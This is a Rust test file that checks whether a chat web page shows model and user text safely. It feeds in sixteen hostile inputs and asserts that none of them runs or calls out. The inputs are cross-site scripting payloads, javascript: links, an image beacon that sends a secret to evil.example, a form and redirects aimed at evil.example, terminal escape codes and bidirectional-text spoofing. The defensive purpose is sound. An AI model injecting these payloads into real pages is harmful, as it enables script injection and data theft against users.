//! Text that means harm, from people and from models: shown, and nothing more.

use mosaic_testkit::{StandIn, Step};
use serde_json::json;

use super::visitor::Visitor;
use crate::testbed::Testbed;

/// Each would set `window.hurt`, leave the page, ask another server, or make the page lie, if it could.
const CORPUS: [&str; 16] = [
    "<script>window.hurt = 1</script>",
    "<img src=x onerror=\"window.hurt = 1\">",
    "<svg onload=\"window.hurt = 1\"></svg>",
    "<details open ontoggle=\"window.hurt = 1\">x</details>",
    "[click](javascript:window.hurt=1)",
    "[click](JAVASCRIPT&#58;window.hurt=1)",
    "![picture](https://evil.example/pixel.png?secret)",
    "<iframe srcdoc=\"<script>parent.hurt = 1</script>\"></iframe>",
    "<style>* { display: none }</style>",
    "<form action=\"https://evil.example\"><input autofocus onfocus=\"window.hurt = 1\"></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example\">",
    "\u{1b}[2J\u{1b}]0;title\u{7}\u{1b}]52;c;aGk=\u{7}",
    "user\u{202e}nimda\u{2066}x",
    "```\n</code></pre><script>window.hurt = 1</script>\n```",
    "| <b onmouseover=\"window.hurt = 1\">a</b> |\n|---|\n| ${window.hurt = 1} {{window.hurt = 1}} |",
];

#[tokio::test]
async fn hostile_text_is_shown_and_harms_nothing() {
    let answers = CORPUS.iter().map(|text| Step::say(*text)).collect::<Vec<_>>();
    let bed = Testbed::with(StandIn::builder().script(answers)).await;
    let api = bed.api();
    let ada = Visitor::owner(&bed).await;
    // The first one live, as words come; the session's title is hostile too.
    ada.says(CORPUS[0]).await;
    ada.page.until("document.querySelector('.meta .why')").await;
    let session = ada.session().await;
    for text in &CORPUS[1..] {
        api.ask(&session, text).await;
    }
    let count = format!("document.querySelectorAll('.meta .why').length === {}", CORPUS.len());
    ada.page.until(&count).await;
    for _ in 0..2 {
        // Live, and once more as it is stored.
        let shown = ada.page.text().await;
        for text in
            ["<script>window.hurt = 1</script>", "<img src=x onerror=", "␛[2J␛]0;title␇", "user[U+202E]nimda[U+2066]x"]
        {
            assert!(shown.matches(text).count() >= 2, "asked and answered: {text}: {shown}");
        }
        assert_eq!(ada.page.eval("window.hurt ?? 'unhurt'").await, "unhurt");
        let strange = "document.querySelectorAll('.turns :is(script, img, iframe, style, form, base, meta, input, svg:not([aria-hidden])), \
                       .turns [onerror], .turns [onload], .turns [onmouseover]').length";
        assert_eq!(ada.page.eval(strange).await, 0);
        let links = ada
            .page
            .eval("[...document.querySelectorAll('.turns a[href]')].map((a) => [a.href, a.rel, a.target])")
            .await;
        for link in links.as_array().expect("a list") {
            assert_eq!(
                (&link[0], &link[2]),
                (&json!("https://evil.example/pixel.png?secret"), &json!("_blank")),
                "{link}"
            );
            assert!(link[1].as_str().is_some_and(|rel| rel.contains("noopener") && rel.contains("noreferrer")));
        }
        let fetched =
            "performance.getEntriesByType('resource').filter((one) => !one.name.startsWith(location.origin)).length";
        assert_eq!(ada.page.eval(fetched).await, 0, "nothing was asked of anyone else");
        ada.page.reload().await;
        ada.page.until(&count).await;
    }
    ada.is_content();
}

#[tokio::test]
async fn a_line_without_end_is_taken_in_and_the_page_still_answers() {
    let long = "x".repeat(100_000);
    let bed = Testbed::with(StandIn::builder().script([Step::say(long.clone()), Step::Flood { bytes: 300_000 }])).await;
    let ada = Visitor::owner(&bed).await;
    ada.says("a long line").await;
    ada.page
        .until("document.querySelector('.meta .why') && document.querySelector('.md').innerText.length >= 100000")
        .await;
    assert_eq!(
        ada.page.eval("document.querySelector('.scroll').scrollWidth <= innerWidth").await,
        true,
        "it is broken"
    );
    ada.says("and a flood").await;
    ada.page.until("document.querySelectorAll('.meta .why').length === 2").await;
    ada.says("and now?").await;
    ada.is_answered("You said: and now?").await;
    ada.is_content();
}
